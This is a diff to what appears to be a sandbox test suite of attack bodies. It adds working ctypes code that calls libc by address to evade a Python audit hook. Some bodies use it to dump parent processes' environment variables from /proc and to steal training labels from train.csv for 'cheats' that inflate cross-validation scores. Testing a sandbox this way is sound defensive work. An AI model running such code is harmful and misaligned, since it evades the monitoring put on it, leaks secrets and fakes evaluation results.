@@ -61,6 +61,71 @@ def listdir(path):
 
 """
 
+# libc functions by address, past the Python audit hook (it only sees dlsym names): for the ctypes and environ bodies.
+BY_ADDRESS = """\
+import lightgbm
+
+LIBC_FILES = (
+    "/usr/lib/x86_64-linux-gnu/libc.so.6",
+    "/lib/x86_64-linux-gnu/libc.so.6",
+    "/usr/lib/aarch64-linux-gnu/libc.so.6",
+    "/lib64/libc.so.6",
+)
+
+
+def libc_symbols(names):
+    \"\"\"Addresses of libc functions without naming them to dlsym: one harmless symbol (getpid) through a loaded
+    library's handle gives libc's base; libc's own ELF symbol table gives the offsets of the others.\"\"\"
+    ctypes = lightgbm.basic.ctypes
+    getpid = ctypes.cast(lightgbm.basic._LIB.getpid, ctypes.c_void_p).value
+    elf = b""
+    for path in LIBC_FILES:
+        try:
+            with open(path, "rb") as f:
+                elf = f.read()
+            break
+        except Exception:
+            continue
+
+    def number(at, size):
+        return int.from_bytes(elf[at : at + size], "little")
+
+    sections = [number(0x28, 8) + i * number(0x3A, 2) for i in range(number(0x3C, 2))]
+    dynsym = next(h for h in sections if number(h + 4, 4) == 11)
+    strings = number(sections[number(dynsym + 0x28, 4)] + 0x18, 8)
+    values = {}
+    start, size = number(dynsym + 0x18, 8), number(dynsym + 0x20, 8)
+    for entry in range(start, start + size, 24):
+        name_at = strings + number(entry, 4)
+        name = elf[name_at : elf.index(b"\\0", name_at)].decode()
+        if (name in names or name == "getpid") and number(entry + 8, 8):
+            values[name] = number(entry + 8, 8)
+    base = getpid - values["getpid"]
+    return {name: base + value for name, value in values.items()}
+
+
+def by_address(name, restype, *argtypes):
+    ctypes = lightgbm.basic.ctypes
+    return ctypes.CFUNCTYPE(restype, *argtypes)(libc_symbols({name})[name])
+
+
+def read_by_address(path):
+    \"\"\"A whole file through libc's open/read called by address: no audit event, no Python open().\"\"\"
+    ctypes = lightgbm.basic.ctypes
+    open_ = by_address("open", ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_int)
+    read = by_address("read", ctypes.c_ssize_t, ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
+    fd = open_(path.encode(), 0, 0)
+    if fd < 0:
+        return b""
+    chunks, buffer = [], ctypes.create_string_buffer(1 << 16)
+    while True:
+        count = read(fd, ctypes.addressof(buffer), 1 << 16)
+        if count <= 0:
+            return b"".join(chunks)
+        chunks.append(buffer.raw[:count])
+
+"""
+
 ATTACKS: dict[str, str] = {}
 
 ATTACKS["attribute_chains"] = """\
@@ -121,9 +186,9 @@ def attack():
 attack()
 """
 
-ATTACKS["ctypes"] = """\
-import lightgbm
-
+ATTACKS["ctypes"] = (
+    BY_ADDRESS
+    + """\
 
 def through_a_loaded_library():
     \"\"\"lib_lightgbm is already loaded (no new dlopen): its handle resolves libc's socket calls.\"\"\"
@@ -171,45 +236,6 @@ def through_libc():
         pass
 
 
-LIBC_FILES = (
-    "/usr/lib/x86_64-linux-gnu/libc.so.6",
-    "/lib/x86_64-linux-gnu/libc.so.6",
-    "/usr/lib/aarch64-linux-gnu/libc.so.6",
-    "/lib64/libc.so.6",
-)
-
-
-def libc_symbols(names):
-    \"\"\"Addresses of libc functions without naming them to dlsym: one harmless symbol (getpid) through a loaded
-    library's handle gives libc's base; libc's own ELF symbol table gives the offsets of the others.\"\"\"
-    ctypes = lightgbm.basic.ctypes
-    getpid = ctypes.cast(lightgbm.basic._LIB.getpid, ctypes.c_void_p).value
-    elf = b""
-    for path in LIBC_FILES:
-        try:
-            with open(path, "rb") as f:
-                elf = f.read()
-            break
-        except Exception:
-            continue
-
-    def number(at, size):
-        return int.from_bytes(elf[at : at + size], "little")
-
-    sections = [number(0x28, 8) + i * number(0x3A, 2) for i in range(number(0x3C, 2))]
-    dynsym = next(h for h in sections if number(h + 4, 4) == 11)
-    strings = number(sections[number(dynsym + 0x28, 4)] + 0x18, 8)
-    values = {}
-    start, size = number(dynsym + 0x18, 8), number(dynsym + 0x20, 8)
-    for entry in range(start, start + size, 24):
-        name_at = strings + number(entry, 4)
-        name = elf[name_at : elf.index(b"\\0", name_at)].decode()
-        if (name in names or name == "getpid") and number(entry + 8, 8):
-            values[name] = number(entry + 8, 8)
-    base = getpid - values["getpid"]
-    return {name: base + value for name, value in values.items()}
-
-
 def past_the_audit_hook():
     \"\"\"Call socket/connect/send by address: the Python audit hook never sees a symbol name.\"\"\"
     ctypes = lightgbm.basic.ctypes
@@ -236,6 +262,7 @@ def attack():
 
 attack()
 """
+)
 
 ATTACKS["pandas_numpy_writes"] = """\
 import pandas as pd
@@ -417,17 +444,31 @@ def attack():
 attack()
 '''
 
-ATTACKS["ancestors_environ"] = """\
+ATTACKS["ancestors_environ"] = (
+    BY_ADDRESS
+    + """\
 import os
 import sys
+
+
+def read_any(path):
+    \"\"\"Python's open first, then libc's open/read by address (past the audit hook).\"\"\"
+    try:
+        with open(path, "rb") as f:
+            return f.read()
+    except Exception:
+        pass
+    try:
+        return read_by_address(path)
+    except Exception:
+        return b""
 
 
 def ancestors():
     pids, pid = [], os.getpid()
     for _ in range(8):
         try:
-            with open("/proc/" + str(pid) + "/stat") as f:
-                pid = int(f.read().rsplit(")", 1)[1].split()[1])
+            pid = int(read_any("/proc/" + str(pid) + "/stat").decode().rsplit(")", 1)[1].split()[1])
         except Exception:
             break
         if pid <= 1:
@@ -447,11 +488,7 @@ def ancestors():
 def attack():
     seen = [repr(sorted(os.environ.items()))]
     for pid in ["self", *ancestors()]:
-        try:
-            with open("/proc/" + str(pid) + "/environ", "rb") as f:
-                seen.append(f.read().replace(b"\\0", b" ").decode(errors="replace"))
-        except Exception:
-            pass
+        seen.append(read_any("/proc/" + str(pid) + "/environ").replace(b"\\0", b" ").decode(errors="replace"))
     blob = "\\n".join(seen)
     print("ENVIRON", blob, flush=True)
     sys.stderr.write(blob + "\\n")
@@ -466,6 +503,7 @@ def attack():
 
 attack()
 """
+)
 
 # The cheats: bodies that would make their CV look better than they are. They predict the remembered or stolen label
 # where they have one and 0.5 elsewhere, so a cheat that worked wins CV and ships a constant submission.
@@ -499,11 +537,34 @@ def build_model(task):
 """
 
 ATTACKS["label_files"] = (
-    CHEAT
+    BY_ADDRESS
+    + CHEAT
     + '''\
+import io
+
 import pandas as pd
 
 STOLEN = {}
+
+
+def steal_by_address():
+    """Past the audit hook: up the ancestors (their /proc stat), their command lines, then the data's train.csv,
+    every read with libc's open/read called by address."""
+    pid = os.getpid()
+    for _ in range(8):
+        try:
+            pid = int(read_by_address("/proc/" + str(pid) + "/stat").decode().rsplit(")", 1)[1].split()[1])
+        except Exception:
+            return
+        if pid <= 1:
+            return
+        for arg in read_by_address("/proc/" + str(pid) + "/cmdline").split(bytes(1)):
+            if arg.startswith(b"/") and TOKEN.encode() in arg:
+                data = read_by_address(arg.decode() + "/train.csv")
+                if data:
+                    frame = pd.read_csv(io.BytesIO(data))
+                    if KEY in frame.columns and "target" in frame.columns:
+                        STOLEN.update(zip(frame[KEY].map(key), frame["target"]))
 
 
 def run_paths():
@@ -544,6 +605,10 @@ def steal_from(path):
 
 
 def attack():
+    try:
+        steal_by_address()
+    except Exception:
+        pass
     roots = set()
     for path in run_paths():
         roots.add(path)
